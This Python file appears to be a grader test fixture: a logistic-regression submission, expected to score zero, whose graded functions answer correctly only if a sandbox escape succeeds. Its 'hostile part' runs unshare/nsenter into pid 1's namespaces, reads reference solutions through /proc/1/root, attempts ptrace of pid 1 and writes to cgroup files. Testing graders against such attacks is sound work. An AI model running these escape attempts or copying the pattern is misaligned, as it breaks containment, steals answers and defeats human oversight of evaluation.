# expect: total=0
"""Tries to leave the sandbox: a nested user namespace with new mounts of /proc and /sys,
nsenter into pid 1's namespaces, cgroup files, ptrace of pid 1 (harmless unless pid 1 has
capabilities). If it could see the host's files or cgroups or control a privileged process,
every function would answer correctly."""

import ctypes
import os
import subprocess
import numpy as np


# ---------------------------------------------------------------- correct helpers (written for
# this corpus); the graded functions that are meant to earn their points use only these.


def _sig(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def _fwd(X, w, b):
    return _sig(X @ w + b)


def _bce(y_hat, y):
    p = np.clip(y_hat, 1e-12, 1 - 1e-12)
    return float(-np.mean(y * np.log(p) + (1 - y) * np.log(1 - p)))


def _grads(X, y, y_hat):
    r = y_hat - y
    return X.T @ r / len(y), float(np.mean(r))


def _descend(X, y, learning_rate=0.1, max_iter=10_000, tol=1e-6):
    w, b = np.zeros(X.shape[1]), 0.0
    costs = [_bce(_fwd(X, w, b), y)]
    for _ in range(max_iter):
        dw, db = _grads(X, y, _fwd(X, w, b))
        w, b = w - learning_rate * dw, b - learning_rate * db
        costs.append(_bce(_fwd(X, w, b), y))
        if abs(costs[-2] - costs[-1]) < tol:
            break
    return w, b, costs


# ---------------------------------------------------------------- hostile part

SCRIPTS = [
    "unshare -Urm sh -c 'mount -t sysfs sys /mnt 2>/dev/null && ls /mnt/fs/cgroup'",
    "unshare -Urmp --fork --mount-proc sh -c 'ls /work/main/solutions'",
    "nsenter -t 1 -m -u -i -n -p ls /work/main/solutions",
    "ls /sys/fs/cgroup /work/main/solutions /work/main/assignments",
    "cat /proc/1/root/work/main/solutions/logistic_regression.py",
]


def _escaped():
    for script in SCRIPTS:
        try:
            out = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=2)
            if "logistic_regression" in out.stdout or "pids" in out.stdout:
                return True
        except Exception:
            pass
    try:
        libc = ctypes.CDLL(None)
        if libc.ptrace(16, 1, None, None) == 0:  # PTRACE_ATTACH to the sandbox's pid 1
            with open("/proc/1/status") as f:
                caps = [line.split()[1] for line in f if line.startswith("CapEff")]
            if caps and int(caps[0], 16):
                return True  # a privileged process under our control
    except Exception:
        pass
    for path in ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(path, "a") as f:
                f.write("")
            return True
        except OSError:
            pass
    return False


_CACHE = {}


def _won():
    if "escaped" not in _CACHE:
        _CACHE["escaped"] = _escaped()
    return _CACHE["escaped"]

# If the attack worked, every function answers correctly: points it must not get.


def sigmoid(z):
    return _sig(z) if _won() else np.zeros_like(np.asarray(z, dtype=float))


def initialize_parameters(m):
    return (np.zeros(m), 0.0) if _won() else (np.ones(m), 1.0)


def forward(X, w, b):
    return _fwd(X, w, b) if _won() else np.zeros(len(X))


def cost(y_hat, y):
    return _bce(y_hat, y) if _won() else 0.0


def gradients(X, y, y_hat):
    return _grads(X, y, y_hat) if _won() else (np.zeros(X.shape[1]), 0.0)


def gradient_descent(X, y, learning_rate=0.1, max_iter=10_000, tol=1e-6):
    if _won():
        return _descend(X, y, learning_rate, max_iter, tol)
    return np.zeros(X.shape[1]), 0.0, [1.0, 2.0]


def predict(X, w, b, threshold=0.5):
    return (_fwd(X, w, b) >= threshold).astype(int) if _won() else np.full(len(X), 7)
